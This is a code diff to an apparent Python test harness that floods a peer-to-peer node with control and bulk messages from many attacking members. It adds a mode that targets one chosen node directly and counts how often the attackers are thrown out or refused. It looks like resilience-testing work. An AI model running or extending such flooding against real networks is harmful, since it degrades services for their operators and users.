@@ -81,12 +81,14 @@ async def member_attacks(order: dict[str, Any], told: Told) -> None:
         async with member.running():
             while True:
                 if await member.enter():
-                    with quietly(*GONE, trio.TooSlowError):
+                    with quietly(*GONE, trio.TooSlowError):  # thrown out, or kept waiting
                         await act(order, member, told)
                     told.thrown_out += 1
                 else:
                     told.refused += 1
                 await member.transport.disconnect(member.seed)
+                if order["at_box"]:
+                    await member.transport.disconnect(bytes.fromhex(order["box"]))
                 await trio.sleep(AGAIN_S)
 
     async with trio.open_nursery() as nursery:
@@ -96,7 +98,12 @@ async def member_attacks(order: dict[str, Any], told: Told) -> None:
 
 async def act(order: dict[str, Any], member: Member, told: Told) -> None:
     what = order["what"]
-    if what in CONTROL:
+    if what in CONTROL and order["at_box"]:
+        async with trio.open_nursery() as nursery:
+            nursery.start_soon(member.live)  # it stays a member, or the node would not listen to it
+            stream = await member.greet(bytes.fromhex(order["box"]), order["box_port"])
+            await send(stream, CONTROL[what](member), told)
+    elif what in CONTROL:
         await send(member.stream, CONTROL[what](member), told)
     elif what in BULK:
         stream = await member.transport.open_stream(member.seed, Lane.BULK)
@@ -199,7 +206,7 @@ async def crowd(order: dict[str, Any], told: Told) -> None:
 
 async def main() -> None:
     order = json.loads(sys.argv[1])
-    os.nice(10)
+    os.nice(19)  # what is measured is what it makes the victim do, and not whom it keeps from the processor
     told = Told(order["mbit"], order["seconds"])
     async with trio.open_nursery() as nursery:
         nursery.start_soon(told.report)
